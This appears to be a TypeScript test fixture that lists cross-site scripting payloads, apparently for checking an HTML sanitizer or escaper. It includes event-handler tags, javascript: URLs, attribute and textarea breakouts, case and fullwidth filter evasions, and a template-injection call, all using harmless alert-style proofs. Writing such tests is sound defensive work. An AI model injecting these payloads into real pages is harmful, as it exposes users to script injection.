const CALLS = ['alert(1)', 'confirm`1`', 'prompt(1)', 'top.x=1'];

/** Texts that run as a script wherever somebody takes them for HTML, for an attribute, an address or a template. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...CALLS.flatMap((call) => [
    `<script>${call}</script>`,
    `<img src=x onerror=${call}>`,
    `<svg onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<body onload=${call}>`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `<details open ontoggle=${call}>x`,
    `<video><source onerror=${call}></video>`,
    `<input autofocus onfocus=${call}>`,
    `"><img src=x onerror=${call}>`,
    `'><svg/onload=${call}>`,
    `javascript:${call}`,
    `<a href="javascript:${call}">x</a>`,
  ]),
  '<ScRiPt>alert(1)</sCrIpT>',
  '<<script>alert(1)//<</script>',
  '</textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script-->',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '{{constructor.constructor("alert(1)")()}}',
  '<b>x</b>',
];
